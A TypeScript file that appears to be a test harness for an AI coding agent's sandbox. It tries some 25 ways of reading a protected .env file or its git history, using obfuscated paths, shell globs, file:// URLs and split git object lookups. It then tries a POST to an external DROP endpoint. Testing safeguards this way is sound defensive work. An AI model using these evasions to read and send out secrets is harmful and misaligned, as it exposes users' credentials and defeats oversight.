import { attempt } from "./attack";
import { execFileSync, spawn, spawnSync } from "node:child_process";
declare const process: any;
const run = (program: string, ...args: string[]) => execFileSync(program, args, { encoding: "utf8" }).length;
const input = (program: string, text: string, ...args: string[]) =>
  execFileSync(program, args, { encoding: "utf8", input: text }).length;
/** `diff` ends with 1 where it found something. */
const different = (...args: string[]) => spawnSync("diff", args, { encoding: "utf8" }).stdout.length;
/** Writes to git while it runs. */
const written = (...texts: string[]) =>
  new Promise<number>((done, failed) => {
    const git = spawn("git", ["cat-file", "--batch"]);
    let length = 0;
    git.stdout.on("data", (data: Buffer) => (length += data.length));
    git.on("close", () => done(length));
    git.on("error", failed);
    for (const text of texts) git.stdin.write(text);
    git.stdin.end();
  });
const ways: Record<string, () => unknown> = {
  archived: () => run("tar", "cf", "all.tar", "."),
  changed: () => run("tar", "-C", "kept", "-c", "-f", "all.tar", ".env"),
  searched: () => run("grep", "-rc", "TOKEN", "."),
  copied: () => run("cp", "-r", "kept", "copy"),
  found: () => run("find", ".", "-type", "f", "-exec", "cat", "{}", "+"),
  listed: () => run("tar", "cf", "all.tar", "-T", "list"),
  input: () => input("xargs", "kept/.env\n", "cat"),
  quoted: () => input("git", '"kept/.en\\166"\n', "hash-object", "-w", "--stdin-paths"),
  piped: () => run("sh", "-c", "find . -type f | xargs cat"),
  pattern: () => run("sh", "-c", "cat kept/.e*"),
  folder: () => run("sh", "-c", "cat k*/.env"),
  deep: () => run("sh", "-c", "cat **/.env"),
  abbreviated: () => run("grep", "--recurs", "-c", "TOKEN", "."),
  folders: () => run("grep", "--dir=rec", "-c", "TOKEN", "."),
  compared: () => different("-N", "empty", "kept"),
  escaped: () => run("curl", "-s", "FILE://@@project@@/kept/%2eenv"),
  ranged: () => run("curl", "-s", "file://@@project@@/kept/.[e-e]nv"),
  other: () => run("sh", "-c", "NO_PROXY='*.local,10.0.0.0/8' echo ?[a]*/8"),
  shell: () => run("sh", "-c", "cd kept && tar cf ../all.tar ."),
  repository: () => run("git", "archive", "--format=tar", "-o", "all.tar", "HEAD"),
  version: () => run("git", "show", "HEAD~1:old/.env"),
  removed: () => run("git", "blame", "HEAD~1", "--", "old/.env"),
  changes: () => run("git", "log", "-p", "--", "old/.env"),
  batch: () => written("HEAD~1:old/.env\n"),
  halves: () => written("HEAD~1:old/.e", "nv\n"),
};
export default (pi: any) =>
  pi.on("session_start", async () => {
    await attempt("read", () => ways[process.env.WAY]());
    await attempt("sent", async () => (await fetch(`${process.env.DROP}/`, { method: "POST", body: "x" })).status);
  });
